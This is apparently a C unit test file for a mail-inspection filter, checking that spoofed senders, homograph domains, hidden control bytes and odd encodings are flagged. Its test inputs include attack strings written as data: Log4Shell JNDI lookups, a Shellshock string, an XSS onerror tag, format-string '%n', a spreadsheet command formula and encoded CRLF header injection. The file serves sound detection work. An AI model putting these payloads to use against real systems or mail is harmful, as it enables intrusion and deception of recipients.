/* What header sections and texts give away: each case names the findings that must be there
 * (FINDING) and must not be there (!FINDING). */
#include "base/exact.h"
#include "inspect/inspect.h"

#include <setjmp.h>
#include <stdarg.h>

#include <cmocka.h>

struct sample {
	str message;
	const char *findings;
};

#define PLAIN "\r\n\r\nBonjour\r\n"
#define FROM_PETIT "From: Jeanne Petit <jeanne.petit@cabinet.example>\r\n"

static void check(const struct sample *cases, size_t n)
{
	bool failed = false;

	for (size_t i = 0; i < n; i++) {
		cleanup(arena_freep) struct arena *a = arena_new("test", 64 << 20);
		cleanup(exact_freep) str message = exact_copy(cases[i].message);
		str rest = str_c(cases[i].findings), name;
		struct facts f;

		inspect_message(a, message, NULL, &inspect_default_limits, &f);
		while (rest.n && str_split(&rest, ' ', &name)) {
			bool absent = str_starts(name, STR("!"));

			if (facts_has_finding(&f, absent ? str_skip(name, 1) : name) != absent)
				continue;
			print_error("case %zu: %.*s\n", i, STR_ARG(name));
			failed = true;
		}
	}
	assert_false(failed);
}

static void the_sender_is_judged(void **state)
{
	static const struct sample cases[] = {
		{ STR("From: \"directeur@hopital.example\" <x@evil.example>" PLAIN),
		  "DISPLAY_NAME_IS_ADDRESS !SUSPECT_DISPLAY_NAME" },
		{ STR("From: a@mail.x.example <a@news.x.example>" PLAIN),
		  "!DISPLAY_NAME_IS_ADDRESS" },
		{ STR("From: \"Jean  Directeur\" <jean@x.example>" PLAIN),
		  "FROM_NAME_EXCESS_SPACE" },
		{ STR("From: \"Jean Directeur          \" <jean@x.example>" PLAIN),
		  "FROM_NAME_EXCESS_SPACE" },
		{ STR("From: =?utf-8?Q?Jean_=C2=A0_Dir?= <jean@x.example>" PLAIN),
		  "FROM_NAME_EXCESS_SPACE" },
		{ STR("From: Jean\r\n Petit <jean@x.example>" PLAIN),
		  "!FROM_NAME_EXCESS_SPACE !SUSPECT_DISPLAY_NAME" },
		{ STR("From: Martin Durand <zk81qa@free.example>" PLAIN), "SUSPECT_DISPLAY_NAME" },
		{ STR("From: =?utf-8?Q?H=C3=A9l=C3=A8ne_G=C3=A9rard?= <h.gerard@x.example>" PLAIN),
		  "!SUSPECT_DISPLAY_NAME !FROM_EXCESS_QP" },
		{ STR("From: contact@labo.example <contact@labo.example>" PLAIN),
		  "FROM_DN_EQ_ADDR !DISPLAY_NAME_IS_ADDRESS" },
		{ STR("From: a@x.example, b@y.example" PLAIN), "MULTIPLE_FROM" },
		{ STR("From: Doe, John <j@x.example>" PLAIN), "!MULTIPLE_FROM !MISSING_FROM" },
		{ STR("From: Personne:;" PLAIN), "MISSING_FROM" },
		{ STR("From: Nom" PLAIN), "MISSING_FROM" },
		{ STR("From: <>" PLAIN), "MISSING_FROM" },
		{ STR(FROM_PETIT "From : x@evil.example" PLAIN),
		  "HEADER_DUPLICATE_FROM MULTIPLE_FROM" },
		{ STR("From: <@a.example:x@evil.example>" PLAIN), "FROM_OBSOLETE_ADDRESS" },
		{ STR("From: \"dir@hopital.example\"@evil.example" PLAIN),
		  "FROM_OBSOLETE_ADDRESS" },
		{ STR("From: x@xn--hpital-wqf.example" PLAIN), "FROM_DOMAIN_HOMOGRAPH" },
		{ STR("From: x@h\xd0\xbepital.example" PLAIN), "FROM_DOMAIN_HOMOGRAPH" },
		{ STR("From: x@xn--hpital-ixa.example" PLAIN), "!FROM_DOMAIN_HOMOGRAPH" },
		{ STR("From: x@-evil-" PLAIN), "FROM_BAD_ADDRESS" },
		{ STR("From: \"H\xf4pital\" <x@a.example>" PLAIN),
		  "INVALID_FROM_8BIT HEADER_8BIT !FROM_ADDRESS_8BIT" },
		{ STR("From: <h\xf4pital@a.example>" PLAIN),
		  "INVALID_FROM_8BIT FROM_ADDRESS_8BIT" },
		{ STR("From: =?utf-8?B?QWxpY2UgPGFsaWNlQGhvcGl0YWwuZXhhbXBsZT4=?=" PLAIN),
		  "MISSING_FROM FROM_EXCESS_BASE64 DISPLAY_NAME_IS_ADDRESS" },
		{ STR(FROM_PETIT "To: undisclosed-recipients:;" PLAIN), "MISSING_TO" },
		{ STR(FROM_PETIT "To: a@x.example" PLAIN),
		  "!MISSING_TO !SUSPECT_DISPLAY_NAME !MISSING_FROM !FROM_BAD_ADDRESS" },
	};

	(void)state;
	check(cases, ARRAY_LEN(cases));
}

/* NUL and line ends that an encoded word brings into an address make clients show another
 * one than they answer to. */
static void hidden_bytes_in_addresses_are_found(void **state)
{
	static const struct sample cases[] = {
		{ STR("From: =?utf-8?b?ZGdAaG9waXRhbC5leGFtcGxl?==?utf-8?Q?=00?="
		      "=?utf-8?b?KGRnQGhvcGl0YWwuZXhhbXBsZSk=?=@evil.example" PLAIN),
		  "FROM_ENCODED_CONTROL FROM_ENCODED_ADDRESS" },
		{ STR("From: =?utf-8?Q?dg=40hopital.example=0A=00?=@evil.example" PLAIN),
		  "FROM_ENCODED_CONTROL" },
		{ STR("From: \"=?utf-8?Q?dg=0D?=\" <x@evil.example>" PLAIN),
		  "FROM_ENCODED_CONTROL" },
		{ STR("Reply-To: =?utf-8?Q?=00?= <x@evil.example>" PLAIN), "FROM_ENCODED_CONTROL" },
		{ STR("Subject: =?utf-8?Q?a=0D=0ABcc:_v=40third.example?=" PLAIN),
		  "HEADER_ENCODED_FIELD" },
		{ STR("Subject: =?utf-8?Q?a=0D=0A?=" PLAIN),
		  "HEADER_ENCODED_CONTROL !HEADER_ENCODED_FIELD !HEADER_CONTROL" },
		{ STR("Subject: =?utf-8?Q?=C3=A9t=C3=A9?=" PLAIN), "!HEADER_ENCODED_CONTROL" },
	};

	(void)state;
	check(cases, ARRAY_LEN(cases));
}

static void oddities_of_fields_are_found(void **state)
{
	static const struct sample cases[] = {
		{ STR("Subject: =?utf-8?B?aGVsbG8=?=" PLAIN),
		  "SUBJ_EXCESS_BASE64 !SUBJ_EXCESS_QP" },
		{ STR("Cc: =?utf-8?Q?Bob?= <b@x.example>" PLAIN), "CC_EXCESS_QP" },
		{ STR("Subject: =?utf-8?Q?R=C3=A9sultats_d=E2=80=99analyse?=" PLAIN),
		  "!SUBJ_EXCESS_QP !MISSING_SUBJECT !SHOWN_INVISIBLE" },
		{ STR("Subject: =?utf-8?B?PT91dGYtOD9RP2E/PQ==?=" PLAIN),
		  "HEADER_NESTED_ENCODING" },
		{ STR("Subject: =?utf-8?Z?a?=" PLAIN), "HEADER_BROKEN_ENCODING" },
		{ STR("Subject: \r\n" PLAIN), "MISSING_SUBJECT" },
		{ STR("Subject: a\r\nSubject: b" PLAIN), "HEADER_DUPLICATE_SINGLETON" },
		{ STR("To: a@x.example\r\nTo: b@x.example" PLAIN),
		  "HEADER_DUPLICATE_MINOR !HEADER_DUPLICATE_SINGLETON" },
		{ STR("Subject: \xe2\x80\xaegpj.exe" PLAIN), "SHOWN_BIDI" },
		{ STR("Subject: \xd7\xa9\xd7\x9c \xe2\x80\xab\xd7\x9d\xe2\x80\xac" PLAIN),
		  "!SHOWN_BIDI" },
		{ STR("Subject: p\xe2\x80\x8b"
		      "assword" PLAIN),
		  "SHOWN_INVISIBLE" },
		{ STR("Subject: v\xd0\xb0lider" PLAIN), "SHOWN_LOOKALIKE" },
		{ STR("Subject: "
		      "\xf0\x9d\x97\xa3\xf0\x9d\x97\xae\xf0\x9d\x98\x86\xf0\x9d\x98\x86" PLAIN),
		  "SHOWN_STYLED" },
		{ STR("X-A: ${jndi:ldap://x/a}" PLAIN), "HEADER_ATTACK" },
		{ STR("X-A: () { :;}; /bin/true" PLAIN), "HEADER_ATTACK" },
		{ STR("Subject: =?utf-8?Q?=3Cimg_src=3Dx_onerror=3Da()=3E?=" PLAIN),
		  "HEADER_ATTACK" },
		{ STR("Subject: a function f() (see below) costs $5: done" PLAIN),
		  "!HEADER_ATTACK" },
		{ STR("Subject: \033[2J" PLAIN), "HEADER_CONTROL" },
		{ STR("Received: from a\x07 by b" PLAIN), "RCVD_ILLEGAL_CHARS" },
		{ STR("Received: from a\r\n\tby b" PLAIN), "!RCVD_ILLEGAL_CHARS" },
		{ STR("Received: a; Fri, 20 Nov 2026 08:00:00 +0000\r\n"
		      "Received: b; Sat, 21 Nov 2026 08:00:00 +0000" PLAIN),
		  "RCVD_BACKWARDS" },
		{ STR("Received: a; Sat, 21 Nov 2026 08:00:00 +0000 (UTC)\r\n"
		      "Received: b; Sat, 21 Nov 2026 10:30:00 +0000 (UTC)" PLAIN),
		  "!RCVD_BACKWARDS" },
		{ STR("Subject: ${${lower:j}ndi:ldap://x/a}" PLAIN), "HEADER_ATTACK" },
		{ STR("Subject: %n%n%n" PLAIN), "HEADER_ATTACK" },
		{ STR("Subject: 100 %n of 50%" PLAIN), "!HEADER_ATTACK" },
		{ STR("Subject: =?utf-8?Q?Pay=C3?= =?utf-8?Q?=A9?=" PLAIN),
		  "HEADER_ODD_ENCODING !HEADER_BROKEN_ENCODING" },
		{ STR("Subject: =?utf-8?Q?=C3=A9?= =?utf-8?Q?=C3=A9?=" PLAIN),
		  "!HEADER_ODD_ENCODING" },
		{ STR("To: =?utf-8?Q?=E2=80=AEecilA?= <a@b.example>" PLAIN), "SHOWN_BIDI" },
		{ STR("From: a@b.example\r\nSender: c@d.example" PLAIN), "FROM_SENDER_DIFFER" },
		{ STR("From: a@b.example\r\nSender: c@lists.b.example" PLAIN),
		  "!FROM_SENDER_DIFFER" },
		{ STR("From: a@b.example\r\nReply-To: a@b.example, c@d.example" PLAIN),
		  "FROM_REPLYTO_DIFFER" },
		{ STR(" Folded: x\r\nSubject: y" PLAIN), "HEADER_BAD_NAME" },
		{ STR("Content-Type: text/html\r\n\r\n<p>x" PLAIN),
		  "MISSING_MIME_VERSION MIME_HEADER_CTYPE_ONLY" },
		{ STR("MIME-Version: 1.0\r\nContent-Type: text/html" PLAIN),
		  "!MISSING_MIME_VERSION !MIME_HEADER_CTYPE_ONLY" },
		{ STR("MIME-Version: 2.0\r\nContent-Type: text/html\r\n"
		      "Content-Transfer-Encoding: 7bit" PLAIN),
		  "MISSING_MIME_VERSION !MIME_HEADER_CTYPE_ONLY" },
		{ STR("Subject: cron" PLAIN), "!MISSING_MIME_VERSION MISSING_DATE" },
		{ STR("Date: Sun, 22 Nov 26 01:00:00 +0000" PLAIN), "DATE_OBSOLETE !BAD_DATE" },
		{ STR("Date: Sun, 22 Nov 2026 01:00:00 GMT (CET)" PLAIN),
		  "!DATE_OBSOLETE !BAD_DATE" },
		{ STR("Subject: =cmd|' /C calc'!A0" PLAIN), "HEADER_ATTACK" },
		{ STR("Date: 32 Foo 2024 25:61:00" PLAIN), "BAD_DATE !MISSING_DATE" },
	};

	(void)state;
	check(cases, ARRAY_LEN(cases));
}

static void message_ids_are_compared(void **state)
{
	static const struct sample cases[] = {
		{ STR(FROM_PETIT "Message-ID: <1.a@mail.cabinet.example>" PLAIN),
		  "!MID_DOMAIN_NEQ_FROM_DOMAIN !INVALID_MSGID MID_RHS_MATCH_FROMTLD "
		  "!MID_RHS_MATCH_FROM" },
		{ STR(FROM_PETIT "Message-ID: <1.a@Cabinet.example>" PLAIN), "MID_RHS_MATCH_FROM" },
		{ STR(FROM_PETIT "Message-ID: <1@other.example>" PLAIN),
		  "MID_DOMAIN_NEQ_FROM_DOMAIN" },
		{ STR(FROM_PETIT "Message-ID: <1.jeanne.petit@cabinet.example>" PLAIN),
		  "MID_CONTAINS_FROM" },
		{ STR(FROM_PETIT "To: a@x.example\r\nMessage-ID: <1.a@x.example>" PLAIN),
		  "MID_CONTAINS_TO" },
		{ STR(FROM_PETIT "To: a@x.example\r\nMessage-ID: <1@x.example>" PLAIN),
		  "MID_RHS_MATCH_TO MID_DOMAIN_NEQ_FROM_DOMAIN" },
		{ STR("From: a@x.example\r\nTo: b@x.example\r\nMessage-ID: <1@x.example>" PLAIN),
		  "!MID_RHS_MATCH_TO" },
		{ STR(FROM_PETIT "Message-ID: <1@localhost>" PLAIN),
		  "MID_RHS_NOT_FQDN !MID_DOMAIN_NEQ_FROM_DOMAIN" },
		{ STR(FROM_PETIT "Message-ID: <1@[192.0.2.1]>" PLAIN), "MID_RHS_IP_LITERAL" },
		{ STR(FROM_PETIT "Message-ID: <1@192.0.2.1>" PLAIN), "MID_BARE_IP" },
		{ STR(FROM_PETIT "Message-ID: 1@cabinet.example" PLAIN), "MID_MISSING_BRACKETS" },
		{ STR(FROM_PETIT "Message-ID: <@>" PLAIN), "INVALID_MSGID" },
	};

	(void)state;
	check(cases, ARRAY_LEN(cases));
}

#define HTML "MIME-Version: 1.0\r\nContent-Type: text/html; charset="
#define TEXT "MIME-Version: 1.0\r\nContent-Type: text/plain; charset="

static void tricks_of_charsets_and_characters_are_found(void **state)
{
	static const struct sample cases[] = {
		{ STR(TEXT "utf-8\r\n\r\nd\xc3\xa9j\xc3\xa0"),
		  "R_BAD_CTE_7BIT !R_MISSING_CHARSET" },
		{ STR(TEXT "utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\nd\xc3\xa9j\xc3\xa0"),
		  "!R_BAD_CTE_7BIT !R_MISSING_CHARSET !TEXT_CHARSET_DOUBTFUL" },
		{ STR("\r\n\r\nd\xe9j\xe0"), "R_BAD_CTE_7BIT R_MISSING_CHARSET" },
		{ STR(TEXT "iso-8859-1\r\n\r\nd\xc3\xa9j\xc3\xa0"), "TEXT_CHARSET_DOUBTFUL" },
		{ STR(TEXT "iso-8859-1\r\n\r\nd\xe9j\xe0"), "!TEXT_CHARSET_DOUBTFUL" },
		{ STR(HTML "utf-7\r\n\r\n+ADw-script+AD4-"), "TEXT_UTF7" },
		{ STR(TEXT "x-unknown\r\n\r\nd\xe9j\xe0"), "MIME_UNKNOWN_CHARSET" },
		{ STR(TEXT "\"utf-8;\"\r\n\r\nd\xc3\xa9j\xc3\xa0"), "!MIME_UNKNOWN_CHARSET" },
		{ STR(TEXT "utf-8\r\n\r\n\xc0\xbcscript"), "TEXT_OVERLONG" },
		{ STR(TEXT "utf-8\r\n\r\nun m\xd0\xbet de pass\xd0\xb5"), "R_MIXED_CHARSET" },
		{ STR(TEXT "utf-8\r\n\r\nTNF\xce\xb1 et \xce\xb2-bloquants, 5 \xc2\xb5m"),
		  "!R_MIXED_CHARSET" },
		{ STR(TEXT "utf-8\r\n\r\np\xe2\x80\x8b"
			   "a\xe2\x80\x8bss\xe2\x80\x8bword"),
		  "TEXT_INVISIBLE" },
		{ STR(TEXT
		      "utf-8\r\n\r\ntrai\xc2\xadte\xc2\xadment h\xc3\xb4\xc2\xadpi\xc2\xadtal"),
		  "!TEXT_INVISIBLE" },
		{ STR("MIME-Version: 1.0\r\nContent-Type: multipart/alternative; boundary=b\r\n\r\n"
		      "--b\r\nContent-Type: text/html\r\n\r\nx\r\n--b--\r\n"),
		  "MIME_MA_MISSING_TEXT" },
		{ STR("MIME-Version: 1.0\r\nContent-Type: multipart/alternative; boundary=b\r\n\r\n"
		      "--b\r\n\r\nx\r\n--b\r\nContent-Type: text/html\r\n\r\nx\r\n--b--\r\n"),
		  "!MIME_MA_MISSING_TEXT" },
		{ STR("Content-Type: foo/bar" PLAIN), "MIME_UNKNOWN" },
		{ STR("Content-Type: application/x-zzz" PLAIN), "MIME_UNKNOWN" },
		{ STR("Content-Type: application/x-zip-compressed" PLAIN), "!MIME_UNKNOWN" },
		{ STR("Content-Type: application/vnd.hl7" PLAIN), "!MIME_UNKNOWN" },
		{ STR("Content-Disposition: attachment; filename=a.pdf" PLAIN), "MIME_UNKNOWN" },
	};

	(void)state;
	check(cases, ARRAY_LEN(cases));
}

static void the_language_of_the_longest_text_is_told(void **state)
{
	cleanup(arena_freep) struct arena *a = arena_new("test", 64 << 20);
	struct facts f;

	(void)state;
	inspect_message(a,
			STR("\r\nVeuillez trouver dans ce courrier le compte rendu de la "
			    "consultation et les examens pour votre patient.\r\n"),
			NULL, &inspect_default_limits, &f);
	assert_true(str_eq(f.language, STR("fr")));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(the_sender_is_judged),
		cmocka_unit_test(hidden_bytes_in_addresses_are_found),
		cmocka_unit_test(oddities_of_fields_are_found),
		cmocka_unit_test(message_ids_are_compared),
		cmocka_unit_test(tricks_of_charsets_and_characters_are_found),
		cmocka_unit_test(the_language_of_the_longest_text_is_told),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
